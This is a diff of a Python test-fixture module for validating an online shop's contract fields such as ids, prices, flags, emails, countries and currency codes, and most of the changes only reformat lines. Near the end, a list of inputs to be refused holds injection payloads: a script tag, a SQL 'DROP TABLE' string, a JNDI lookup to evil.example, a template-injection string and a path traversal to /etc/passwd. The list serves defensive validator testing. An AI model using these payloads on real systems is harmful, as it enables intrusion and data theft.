@@ -1,5 +1,5 @@
-"""Values of the contract's fields that are not what the contract says, though PHP, a spreadsheet or JavaScript would take them for it.
-Beside them those that look no better and must be accepted, because a shop writes them."""
+"""Values of the contract's fields that are not what the contract says, though PHP, a spreadsheet or JavaScript would take them for
+it. Beside them those that look no better and must be accepted, because a shop writes them."""
 
 from .case import CART, CUSTOMER, DELETE, INVOICE, PLACE, PRODUCT, SAVE, SHIPMENT, Case, at, signed, with_text_at
 
@@ -8,8 +8,8 @@ CASES = []
 
 def refuses(name, channel, path, text, *pointers, why=""):
     """With this JSON text at this place of a good entity, the field is invalid; or other fields, if they are named."""
-    event = lambda: signed(channel, with_text_at(channel, path, text))  # noqa: E731
-    CASES.append(Case(name, channel, event, "invalid", at(channel, *(pointers or [path])), why=why))
+    pointers = at(channel, *(pointers or [path]))
+    CASES.append(Case(name, channel, lambda: signed(channel, with_text_at(channel, path, text)), "invalid", pointers, why=why))
 
 
 def takes(name, channel, path, text, why=""):
@@ -59,7 +59,9 @@ refuses("id-empty", SAVE, "entity_id", '""')
 refuses("id-false", SAVE, "entity_id", "false", why="stands for a default, so the field is missing")
 refuses("id-empty-list", SHIPMENT, "order_id", "[]")
 refuses("id-empty-object", SHIPMENT, "order_id", "{}")
-refuses("id-of-a-customer-in-words", CUSTOMER, "id", '"fifty-seven"', "id", "entity_id", why="either will do, and neither is there")
+refuses(
+    "id-of-a-customer-in-words", CUSTOMER, "id", '"fifty-seven"', "id", "entity_id", why="either will do, and neither is there"
+)
 refuses("id-of-a-customer-negative", DELETE, "entity_id", "-57")
 refuses("id-of-an-item", PLACE, "items/0/item_id", '"x"', "items/0/item_id")
 refuses("id-of-a-cart-line", CART, "item_id", "1.5")
@@ -73,7 +75,7 @@ for name, text in {
     "comma": '"12,50"',
     "thousands": '"1,234.50"',
     "thousands-of-a-frenchman": '"1 234.50"',
-    "apostrophes": "\"1'234.50\"",
+    "apostrophes": '"1\'234.50"',
     "currency": '"$12.50"',
     "currency-after": '"12.50 EUR"',
     "space-before": '" 12.50"',
@@ -133,7 +135,14 @@ refuses("money-of-an-invoice", INVOICE, "grand_total", '"12.5.0"')
 refuses("money-of-an-item", PLACE, "items/0/price", '"free"')
 refuses("money-of-a-payment", PLACE, "payment/amount_paid", '"1e"')
 refuses("price-of-a-product", PRODUCT, "price", '"31,08"')
-refuses("money-and-quantity-of-an-item", PLACE, "items/0", '{"sku":"A","price":"x","qty_ordered":"y"}', "items/0/price", "items/0/qty_ordered")
+refuses(
+    "money-and-quantity-of-an-item",
+    PLACE,
+    "items/0",
+    '{"sku":"A","price":"x","qty_ordered":"y"}',
+    "items/0/price",
+    "items/0/qty_ordered",
+)
 takes("money-negative", PLACE, "grand_total", "-12.5", why="nobody said that a total is positive")
 takes("money-minus-zero", PLACE, "grand_total", "-0")
 takes("money-minus-zero-in-text", PLACE, "grand_total", '"-0.0000"')
@@ -188,11 +197,27 @@ for name, text in {
 takes("flag-true", PLACE, "customer_is_guest", "true", why="PHP's in memory")
 takes("flag-in-text", PLACE, "customer_is_guest", '"1"')
 takes("flag-null", PLACE, "customer_is_guest", "null")
-for name, text in {"zero": "0", "three": "3", "true": "true", "float": "1.0", "word": '"enabled"', "padded": '"1 "', "list": "[1]"}.items():
+for name, text in {
+    "zero": "0",
+    "three": "3",
+    "true": "true",
+    "float": "1.0",
+    "word": '"enabled"',
+    "padded": '"1 "',
+    "list": "[1]",
+}.items():
     refuses(f"status-of-a-product-{name}", PRODUCT, "status", text)
 takes("status-of-a-product-in-text", PRODUCT, "status", '"2"')
 takes("status-of-a-product-by-default", PRODUCT, "status", "false", why="a store view that uses the default value")
-for name, text in {"open": "1", "cancelled": '"3"', "float": "2.0", "word": '"paid"', "true": "true", "list": "[2]", "null": "null"}.items():
+for name, text in {
+    "open": "1",
+    "cancelled": '"3"',
+    "float": "2.0",
+    "word": '"paid"',
+    "true": "true",
+    "list": "[2]",
+    "null": "null",
+}.items():
     refuses(f"state-of-an-invoice-{name}", INVOICE, "state", text)
 takes("state-of-an-invoice-padded", INVOICE, "state", '"02"')
 
@@ -304,12 +329,28 @@ refuses("email-of-an-order", PLACE, "customer_email", '"zoe at shop"')
 takes("email-international", CUSTOMER, "email", '"zoë+tag@söhne.example"')
 takes("email-local", CUSTOMER, "email", '"root@localhost"')
 takes("email-quoted", CUSTOMER, "email", r'"\"<script>\"@shop.example"', why="nobody shows it; the shop took it")
-takes("email-with-sql", CUSTOMER, "email", "\"o'hara--@shop.example\"")
-for name, text in {"three-letters": '"USA"', "name": '"Germany"', "digits": '"12"', "number": "49", "umlaut": '"ÖS"', "flag": '"🇩🇪"', "space": '"D "'}.items():
+takes("email-with-sql", CUSTOMER, "email", '"o\'hara--@shop.example"')
+for name, text in {
+    "three-letters": '"USA"',
+    "name": '"Germany"',
+    "digits": '"12"',
+    "number": "49",
+    "umlaut": '"ÖS"',
+    "flag": '"🇩🇪"',
+    "space": '"D "',
+}.items():
     refuses(f"country-{name}", PLACE, "billing_address/country_id", text)
 takes("country-in-small-letters", PLACE, "billing_address/country_id", '"de"')
 takes("country-empty", PLACE, "billing_address/country_id", '""')
-for name, text in {"sign": '"€"', "four-letters": '"EURO"', "number": "978", "two-letters": '"EU"', "lookalike": '"ЕUR"', "empty": '""', "list": '["EUR"]'}.items():
+for name, text in {
+    "sign": '"€"',
+    "four-letters": '"EURO"',
+    "number": "978",
+    "two-letters": '"EU"',
+    "lookalike": '"ЕUR"',
+    "empty": '""',
+    "list": '["EUR"]',
+}.items():
     refuses(f"currency-{name}", PLACE, "order_currency_code", text)
 takes("currency-unheard-of", PLACE, "order_currency_code", '"XQZ"')
 
@@ -340,7 +381,7 @@ for name, text in {
     "1e999": "1e999",
     "10-kb": '"' + "7" * 10_000 + '"',
     "html": r'"<script>alert(1)<\/script>"',
-    "sql": "\"1'; DROP TABLE sales_order; --\"",
+    "sql": '"1\'; DROP TABLE sales_order; --"',
     "jndi": r'"${jndi:ldap:\/\/evil.example\/a}"',
     "template": '"{{constructor.constructor(1)()}}"',
     "path": r'"..\/..\/..\/etc\/passwd"',
